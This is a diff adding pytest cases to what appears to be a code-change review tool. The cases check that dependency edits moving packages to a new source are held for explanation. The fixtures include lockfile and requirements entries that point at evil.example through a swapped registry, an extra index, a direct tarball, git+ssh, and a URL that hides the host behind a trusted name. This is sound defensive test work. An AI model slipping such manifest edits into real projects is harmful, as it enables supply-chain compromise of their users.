@@ -271,6 +271,62 @@ NODE = b"describe('a', () => {\n  it('x', () => { expect(1).toBe(1) })\n  it('y'
 GO = b"package a\n\nfunc TestA(t *testing.T) {\n}\n"
 PROJECT = b"[tool.pytest.ini_options]\naddopts = '-q'\n"
 PACKAGE = b'{\n  "scripts": {\n    "test": "jest"\n  }\n}\n'
+LOCK = (
+    b'{\n "node_modules/a": {\n  "version": "1.0.0",\n  "resolved": "https://packages.example.net/a/-/a-1.0.0.tgz",\n'
+    b'  "integrity": "sha512-AAAA",\n  "funding": {"url": "https://sponsor.example/a"}\n }\n}\n'
+)
+SOURCES = {
+    "another-registry": (
+        {"package-lock.json": LOCK},
+        {"package-lock.json": LOCK.replace(b"packages.example.net", b"evil.example")},
+    ),
+    "no-digest": (
+        {"package-lock.json": LOCK},
+        {"package-lock.json": LOCK.replace(b'  "integrity": "sha512-AAAA",\n', b"")},
+    ),
+    "a-second-index": (
+        {"requirements.txt": b"a==1\n"},
+        {"requirements.txt": b"--extra-index-url https://evil.example/simple\na==1\n"},
+    ),
+    "by-address": ({"requirements.txt": b"a==1\n"}, {"requirements.txt": b"a @ https://evil.example/a-1.tar.gz\n"}),
+    "from-git": ({}, {"package.json": b'{\n "dependencies": {\n  "a": "git+ssh://git@evil.example/a.git"\n }\n}\n'}),
+    "cargo": ({}, {"Cargo.lock": b'source = "registry+https://evil.example/index"\n'}),
+    "with-a-name-before": (
+        {},
+        {"uv.lock": b'source = { registry = "https://packages.example.org@evil.example/simple" }\n'},
+    ),
+}
+
+
+@pytest.mark.parametrize("name", SOURCES)
+def test_packages_from_elsewhere_are_held_for_an_explanation(double, tmp_path, name):
+    base, files = SOURCES[name]
+    verdict = double.Shop(tmp_path, **base).change(files).check()
+    assert told(verdict) == (HOLD, {"packages.source"})
+
+
+SAME_SOURCES = {
+    "a-newer-version": (
+        {"package-lock.json": LOCK},
+        {"package-lock.json": LOCK.replace(b"1.0.0", b"1.0.1").replace(b"sponsor", b"other")},
+    ),
+    "a-host-of-the-policy": ({}, {"uv.lock": b'source = { registry = "https://packages.example.org/simple" }\n'}),
+    "a-home-page": (
+        {},
+        {
+            "package.json": b'{\n "homepage": "https://www.example.net",\n "repository": {"url": "git+https://code.example.net/x.git"}\n}\n'
+        },
+    ),
+    "project-addresses": ({}, {"pyproject.toml": b'[project.urls]\nHomepage = "https://www.example.net"\n'}),
+}
+
+
+@pytest.mark.parametrize("name", SAME_SOURCES)
+def test_packages_from_where_they_came_before_are_no_matter(double, tmp_path, name):
+    base, files = SAME_SOURCES[name]
+    assert told(double.Shop(tmp_path, **base).change(files).check()) == (REVIEW, set())
+
+
 # What stands on the base, and what the change makes of it: the runner sees less, and no line says so.
 SEEN_LESS = {
     "renamed-away": ({"tests/test_a.py": SUITE}, {"tests/test_a.py": None, "tests/a_checks.py": SUITE}),
